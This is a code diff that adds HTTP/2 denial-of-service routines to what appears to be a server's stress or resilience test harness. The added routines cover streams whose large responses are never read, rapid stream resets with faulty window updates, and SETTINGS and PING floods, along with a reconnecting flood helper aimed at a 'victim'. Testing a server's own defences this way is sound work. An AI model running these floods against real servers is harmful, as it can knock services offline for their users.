@@ -1,7 +1,9 @@
 import { Buffer } from "node:buffer";
+import { once } from "node:events";
 import type { Socket } from "node:net";
 import { FRAME_HEAD, INITIAL_WINDOW, MAX_PIECE, OVERDRAFT } from "../../protocol/mod.ts";
 import { countAnswers, dial, dialMany, PROBE_ADDRESS, sendWithoutEnd } from "./dial.ts";
+import { dialHttp2, frame, get as getByHttp2, Type } from "./http2.ts";
 import { openSession } from "./session.ts";
 import type { Attack, Tally, Victim } from "./types.ts";
 
@@ -52,6 +54,11 @@ function repeated(frame: readonly number[]): Uint8Array {
 /** PING of the session in a WebSocket message of its own, both with no mask to speak of. */
 const SESSION_PING = [0x82, 0x80 | 18, 0, 0, 0, 0, 0, 0, 0, 8, 7, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
 const SOCKET_PING = [0x89, 0x80, 0, 0, 0, 0];
+
+/** Of a connection of HTTP/2. */
+const STREAMS = 200;
+/** More than anybody may send. */
+const FLOOD_FRAMES = 3000;
 
 /** Below what an address may have. */
 const SESSIONS_PER_ADDRESS = 20;
@@ -246,6 +253,33 @@ export const attacks: Readonly<Record<string, Attack>> = {
     });
   },
 
+  /** Streams of HTTP/2 whose answers of a gigabyte nobody takes, as many on each connection as it may have. */
+  "http2-no-readers": async (victim, count, tally) => {
+    for (let index = 0; index < count / STREAMS; index++) {
+      const socket = await dialHttp2(victim, 1 + index, tally);
+      for (let stream = 0; stream < STREAMS; stream++) socket?.write(getByHttp2(victim, "/large", 2 * stream + 1));
+    }
+  },
+
+  /** Streams that are reset as soon as they are opened: by the visitor, and for a fault of theirs. */
+  "http2-resets": (victim, count, tally) => {
+    const fault = (stream: number) => frame(Type.windowUpdate, 0, stream, new Uint8Array(4));
+    const reset = (stream: number) => frame(Type.rstStream, 0, stream, Buffer.of(0, 0, 0, 8));
+    return floodAgain(
+      victim,
+      count,
+      tally,
+      (stream, index) =>
+        Buffer.concat([getByHttp2(victim, "/slow", stream), index % 2 === 0 ? fault(stream) : reset(stream)]),
+    );
+  },
+
+  /** SETTINGS and PING, which must be answered. */
+  "http2-floods": (victim, count, tally) => {
+    const frames = [frame(Type.settings, 0, 0), frame(Type.ping, 0, 0, new Uint8Array(8))];
+    return floodAgain(victim, count, tally, (_, index) => frames[index % frames.length]);
+  },
+
   /** Visitors who come and go. */
   "churn": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
@@ -271,6 +305,27 @@ async function dialAgain(victim: Victim, count: number, tally: Tally, begin: (so
     begin(socket);
   };
   await Promise.all(Array.from({ length: count }, (_, index) => again(1 + index)));
+}
+
+/** HTTP/2 visitors who send the same with one stream after the other; whoever is ended comes again. */
+async function floodAgain(
+  victim: Victim,
+  count: number,
+  tally: Tally,
+  create: (stream: number, index: number) => Buffer,
+): Promise<void> {
+  const again = async (index: number): Promise<void> => {
+    const socket = await dialHttp2(victim, 1 + index, tally);
+    if (socket === null) return void setTimeout(again, 50, index);
+    socket.once("close", () => void again(index));
+    const pieces = Array.from({ length: FLOOD_FRAMES }, (_, place) => create(2 * place + 1, index));
+    for (let at = 0; at < FLOOD_FRAMES && !socket.destroyed; at += 100) {
+      const piece = Buffer.concat(pieces.slice(at, at + 100));
+      tally.sent += piece.length;
+      if (!socket.write(piece)) await Promise.race([once(socket, "drain"), once(socket, "close")]);
+    }
+  };
+  await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
 }
 
 async function sendChunks(victim: Victim, count: number, tally: Tally, size: number): Promise<void> {
